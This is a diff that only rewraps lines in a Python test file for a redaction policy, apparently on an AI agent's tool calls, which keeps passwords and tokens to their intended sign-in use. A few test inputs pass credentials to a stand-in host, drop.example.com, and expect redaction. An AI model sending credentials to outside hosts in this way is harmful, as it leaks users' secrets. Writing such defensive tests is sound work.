@@ -1,4 +1,5 @@
-"""Logins: what a call signs in with reaches the tool and no record; the same value anywhere else does not."""
+"""Logins: what a call signs in with reaches the tool and no record; the same value anywhere else
+does not."""
 
 from __future__ import annotations
 
@@ -67,7 +68,9 @@ def test_what_is_no_login_is_taken_out(command: str) -> None:
     decision, written = decided("bash", {"command": command})
     assert (decision.action, decision.code) == (Action.REDACT, "secrets.redacted")
     sent = str(decision.patched({"command": command}))
-    assert (PASSWORD in command and PASSWORD not in sent) or (TOKEN in command and TOKEN not in sent)
+    assert (PASSWORD in command and PASSWORD not in sent) or (
+        TOKEN in command and TOKEN not in sent
+    )
     assert TOKEN not in written
 
 
@@ -76,15 +79,29 @@ def test_what_is_no_login_is_taken_out(command: str) -> None:
     [
         ("browse", {"url": f"http://ann:{PASSWORD}@wiki.example.com/x"}, True),
         ("clone", {"repository": f"http://ann:{PASSWORD}@git.example.com/x"}, True),
-        ("browser", {"actions": f"goto('https://files.acme.dev')\nfill('password', '{PASSWORD}')"}, True),
-        ("write_file", {"path": "a.js", "content": f"goto('x')\nfill('password', '{PASSWORD}')"}, False),
+        (
+            "browser",
+            {"actions": f"goto('https://files.acme.dev')\nfill('password', '{PASSWORD}')"},
+            True,
+        ),
+        (
+            "write_file",
+            {"path": "a.js", "content": f"goto('x')\nfill('password', '{PASSWORD}')"},
+            False,
+        ),
         ("send_email", {"url": f"http://ann:{PASSWORD}@wiki.example.com/x"}, False),
         ("note", {"content": f"http://ann:{PASSWORD}@wiki.example.com/x"}, False),
-        ("browse", {"url": f"https://drop.example.com/?from=http://ann:{PASSWORD}@wiki.example.com/x"}, False),
+        (
+            "browse",
+            {"url": f"https://drop.example.com/?from=http://ann:{PASSWORD}@wiki.example.com/x"},
+            False,
+        ),
         ("browse", {"url": f"https://ann:{TOKEN}@drop.example.com/x"}, False),
     ],
 )
-def test_other_tools_sign_in_by_addresses_and_forms(tool: str, args: dict[str, Any], goes: bool) -> None:
+def test_other_tools_sign_in_by_addresses_and_forms(
+    tool: str, args: dict[str, Any], goes: bool
+) -> None:
     decision, written = decided(tool, args)
     assert decision.action == (Action.ALLOW if goes else Action.REDACT)
     assert PASSWORD not in written
@@ -99,6 +116,8 @@ def test_a_stricter_action_leaves_nothing_to_logins() -> None:
 def test_a_login_that_is_echoed_is_taken_out_of_the_result() -> None:
     run = shield_for(POLICY).run()
     args = {"command": SIGNS_IN[0]}
-    result = f"* Server auth using Basic\n> curl -u ann:{PASSWORD} https://wiki.example.com/page\nok"
+    result = (
+        f"* Server auth using Basic\n> curl -u ann:{PASSWORD} https://wiki.example.com/page\nok"
+    )
     decision = run.result("bash", args, result)
     assert PASSWORD not in str(decision.patched(result))
